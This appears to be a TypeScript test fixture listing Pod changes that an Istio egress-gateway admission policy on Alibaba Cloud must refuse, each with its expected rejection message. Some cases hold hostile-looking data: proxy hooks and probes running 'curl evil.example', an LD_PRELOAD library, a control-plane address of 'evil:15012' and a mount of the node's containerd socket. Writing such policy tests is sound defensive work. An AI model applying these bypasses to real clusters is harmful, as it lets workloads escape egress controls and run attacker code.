import {
    affinity,
    annotate,
    app,
    argument,
    type Change,
    capture,
    EVIL_PROXY,
    init,
    label,
    named,
    proxy,
    spec,
    TAINT,
    volume,
} from "./pods";

/** Several policies refuse a container that borrows the proxy's name, and the API server shows one; each names the images. */
export const OTHER_IMAGE = /has another image|proxy\.istio\.io\/overrides|runs as 1337.*guard\.proxyImagePrefixes/;

/** Pods that are refused: what is tried, how, and what the message says. */
export const REFUSED_PODS: readonly [string, Change, string | RegExp][] = [
    // What is captured.
    ["the label inject=false on an injected Pod", label("sidecar.istio.io/inject", "false"), "sidecar.istio.io/inject"],
    ["the annotation inject=false", annotate("sidecar.istio.io/inject", "false"), "sidecar.istio.io/inject"],
    ["another injection template", annotate("inject.istio.io/templates", "gateway"), "inject.istio.io/templates"],
    ["interception NONE", annotate("sidecar.istio.io/interceptionMode", "NONE"), "interceptionMode"],
    ...["includeOutboundIPRanges", "excludeOutboundIPRanges"].map((name): [string, Change, string] => [
        `${name} of the outside`,
        annotate(`traffic.sidecar.istio.io/${name}`, "203.0.113.0/24"),
        name,
    ]),
    [
        "an excluded range of the outside behind one of the cluster",
        annotate("traffic.sidecar.istio.io/excludeOutboundIPRanges", "172.16.0.1/32,0.0.0.0/0"),
        "excludeOutboundIPRanges",
    ],
    [
        "nothing at all captured",
        annotate("traffic.sidecar.istio.io/includeOutboundIPRanges", ""),
        "includeOutboundIPRanges",
    ],
    ...["excludeOutboundPorts", "includeOutboundPorts", "excludeInterfaces", "kubevirtInterfaces"].map(
        (name): [string, Change, string] => [name, annotate(`traffic.sidecar.istio.io/${name}`, "443"), name],
    ),
    ["rerouted interfaces", annotate("istio.io/reroute-virtual-interfaces", "eth1"), "reroute-virtual-interfaces"],
    ["a second network", annotate("k8s.v1.cni.cncf.io/networks", "macvlan"), "k8s.v1.cni.cncf.io/networks"],
    // What the proxy is.
    [
        "a proxy configuration",
        annotate("proxy.istio.io/config", "discoveryAddress: evil:15012"),
        "proxy.istio.io/config",
    ],
    ["overrides of the injected containers", annotate("proxy.istio.io/overrides", "{}"), "proxy.istio.io/overrides"],
    ["another proxy image", annotate("sidecar.istio.io/proxyImage", "evil"), "proxyImage"],
    ["another bootstrap", annotate("sidecar.istio.io/bootstrapOverride", "evil"), "bootstrapOverride"],
    ["another control plane", annotate("sidecar.istio.io/discoveryAddress", "evil:15012"), "discoveryAddress"],
    ["a volume in the proxy", annotate("sidecar.istio.io/userVolume", "[]"), "userVolume"],
    ["a mount in the proxy", annotate("sidecar.istio.io/userVolumeMount", "[]"), "userVolumeMount"],
    ["a proxy with another image", proxy((container) => Object.assign(container, EVIL_PROXY)), OTHER_IMAGE],
    [
        "an image whose name only begins like the mesh's",
        proxy((container) => {
            container.image = "registry-vpc.cn-hangzhou.aliyuncs.com/acs/proxyv2-evil:1";
        }),
        OTHER_IMAGE,
    ],
    [
        "a proxy that runs a shell",
        proxy((container) => Object.assign(container, { command: ["sh"] })),
        "runs something else",
    ],
    [
        "a proxy with other args",
        proxy((container) => Object.assign(container, { args: ["sleep", "1d"] })),
        "runs something else",
    ],
    [
        "a proxy with a bootstrap template",
        proxy(({ args }) => args.push("--templateFile=/evil.json")),
        "runs something else",
    ],
    [
        "a hook of the proxy that runs a shell",
        proxy((container) => {
            container.lifecycle = { postStart: { exec: { command: ["sh", "-c", "curl evil.example"] } } };
        }),
        "runs a command",
    ],
    [
        "a probe of the proxy that runs a shell",
        proxy((container) => {
            container.livenessProbe = { exec: { command: ["curl", "evil.example"] } };
        }),
        "runs a command",
    ],
    ["a library in the proxy", proxy(({ env }) => env.push({ name: "LD_PRELOAD", value: "/x.so" })), "other code"],
    [
        "another binary in the proxy's configuration",
        proxy(({ env }) => {
            named(env, "PROXY_CONFIG").value = '{"binaryPath":"/evil"}';
        }),
        "other code",
    ],
    [
        "a Pod that is a sidecar alone",
        (pod) => {
            pod.spec.containers = [named(pod.spec.containers, "istio-proxy")];
        },
        "a sidecar alone",
    ],
    [
        "no container that sets the capture up",
        (pod) => {
            pod.spec.initContainers = [];
        },
        "no injected sidecar",
    ],
    [
        "a proxy that is an init container and ends",
        (pod) => {
            const { readinessProbe, startupProbe, ...ending } = named(pod.spec.containers, "istio-proxy");
            pod.spec.initContainers.push(ending);
            pod.spec.containers = [named(pod.spec.containers, "app")];
        },
        "no injected sidecar",
    ],
    [
        "a capture that runs a shell",
        capture((container) => Object.assign(container, { command: ["true"] })),
        "does not capture",
    ],
    ["a capture of nothing", argument("-i", ""), "does not capture"],
    ["a capture without the outside", argument("-x", "0.0.0.0/0"), "does not capture"],
    ["a capture without a port", argument("-o", "443"), "does not capture"],
    ["a capture that lets another uid pass", argument("-u", "1000"), "does not capture"],
    ["a capture told the same thing twice", capture(({ args }) => args.push("-i", "")), "does not capture"],
    [
        "a capture with a flag that the injector never writes",
        capture(({ args }) => args.push("--istio-exclude-interfaces=eth0")),
        "does not capture",
    ],
    // The proxy's identity.
    ["uid 1337", app({ securityContext: { runAsUser: 1337 } }), "runs as 1337"],
    ["gid 1337", app({ securityContext: { runAsGroup: 1337 } }), "runs as 1337"],
    [
        "uid 1337 of the whole Pod",
        spec({ securityContext: { runAsUser: 1337 } }),
        "the Pod's securityContext uses 1337",
    ],
    ["fsGroup 1337", spec({ securityContext: { fsGroup: 1337 } }), "the Pod's securityContext uses 1337"],
    [
        "1337 among the supplemental groups",
        spec({ securityContext: { supplementalGroups: [1, 1337] } }),
        "the Pod's securityContext uses 1337",
    ],
    ["uid 1337 in an init container", init({ name: "setup", securityContext: { runAsUser: 1337 } }), "runs as 1337"],
    // Privileges.
    ["hostNetwork", spec({ hostNetwork: true }), "hostNetwork"],
    ["hostPID", spec({ hostPID: true }), "hostPID"],
    ["a privileged container", app({ securityContext: { privileged: true } }), "privileged"],
    ["NET_ADMIN", app({ securityContext: { capabilities: { add: ["NET_ADMIN"] } } }), "NET_ADMIN"],
    ["NET_RAW", app({ securityContext: { capabilities: { add: ["NET_RAW"] } } }), "NET_RAW"],
    ["SYS_ADMIN by its long name", app({ securityContext: { capabilities: { add: ["CAP_SYS_ADMIN"] } } }), "SYS_ADMIN"],
    [
        "NET_ADMIN in a container that borrows the name and the image of istio-init's sister",
        (pod) =>
            pod.spec.containers.push({
                name: "istio-validation",
                image: pod.spec.initContainers[0].image,
                securityContext: { capabilities: { add: ["NET_ADMIN"] } },
            }),
        "NET_ADMIN",
    ],
    ["the node's container runtime", (pod) => pod.spec.volumes.push(...volume("/run/containerd").volumes), "hostPath"],
    // The gateway's place.
    [
        "a toleration of the gateway's taint",
        spec({ tolerations: [{ key: TAINT, operator: "Exists" }] }),
        "tolerates the taint",
    ],
    ["a toleration of every taint", spec({ tolerations: [{ operator: "Exists" }] }), "tolerates the taint"],
    ["a node by name", spec({ nodeName: "gateway-node" }), "names its node"],
    ["the gateway's nodes by label", spec({ nodeSelector: { [TAINT]: "egress-prod" } }), "chooses the gateway's nodes"],
    ["the gateway's nodes by affinity", spec(affinity("In")), "chooses the gateway's nodes"],
    ["the gateway's own label", label(TAINT, "egress-prod"), "it is the gateway's own"],
    // Addresses.
    ...["k8s.aliyun.com/", "network.alibabacloud.com/"].flatMap((prefix) =>
        ["pod-with-eip", "pod-eip-instanceid", "ipv6-bandwidth", "ipv6-egress-only"].map(
            (name): [string, Change, string] => [`${prefix}${name}`, annotate(`${prefix}${name}`), `${prefix}${name}`],
        ),
    ),
    ["an EIP on ECI", annotate("k8s.aliyun.com/eci-with-eip"), "eci-with-eip"],
    [
        "the gateway's PodNetworking",
        annotate("k8s.aliyun.com/pod-networking", "asm-egress-prod"),
        "the gateway's PodNetworking",
    ],
    [
        "the gateway's PodNetworking on request",
        annotate("k8s.aliyun.com/pod-networks-request", '[{"network":"asm-egress-prod"}]'),
        "the gateway's PodNetworking",
    ],
    [
        "a vSwitch of the gateway",
        annotate("k8s.aliyun.com/pod-networks", '{"podNetworks":[{"vSwitchOptions":["vsw-gateway-i"]}]}'),
        "a vSwitch of the gateway",
    ],
    ["a virtual node", label("alibabacloud.com/eci"), "alibabacloud.com/eci"],
    ["a burst to virtual nodes", annotate("alibabacloud.com/burst-resource", "eci"), "burst-resource"],
    ["a Pod that Terway leaves alone", label("k8s.aliyun.com/ignore-by-terway"), "ignore-by-terway"],
];
